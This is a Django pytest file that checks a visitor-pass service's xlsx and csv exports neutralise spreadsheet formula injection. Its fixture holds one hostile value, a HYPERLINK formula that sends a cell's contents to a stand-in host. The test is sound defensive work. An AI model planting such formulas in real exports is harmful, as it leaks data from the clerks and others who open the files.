"""Exports from the admin's listings keep what people typed as text: a visitor's name
"=HYPERLINK(...)" (typed by a resident) must not become a live formula on the clerk's
computer, in .xlsx or in .csv."""

import csv
import io
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from services.visitors import gate
from services.visitors.models import GateEntry

from .gate_setup import *  # noqa: F403 (the fixtures)

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点我")'


@pytest.fixture
def admitted(visitor_pass, guard_a, community_a):
    visitor_pass.visitor_name = FORMULA
    visitor_pass.save(update_fields=["visitor_name"])
    assert gate.admit(community_a, visitor_pass.code, guard_a).ok
    return GateEntry.objects.get(visitor_pass=visitor_pass)


def export(client, user, spreadsheet_format):
    client.force_login(user)
    response = client.get(reverse("visitor_passes:index"), {"export": spreadsheet_format})
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_xlsx_export_holds_the_name_as_quoted_text(client, manager_a, admitted):
    sheet = load_workbook(BytesIO(export(client, manager_a, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]

    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert cells[0].quotePrefix


def test_the_csv_export_puts_the_quote_in_front(client, manager_a, admitted):
    rows = list(csv.reader(io.StringIO(export(client, manager_a, "csv").decode("utf-8-sig"))))

    assert "'" + FORMULA in rows[1]
    assert FORMULA not in rows[1]
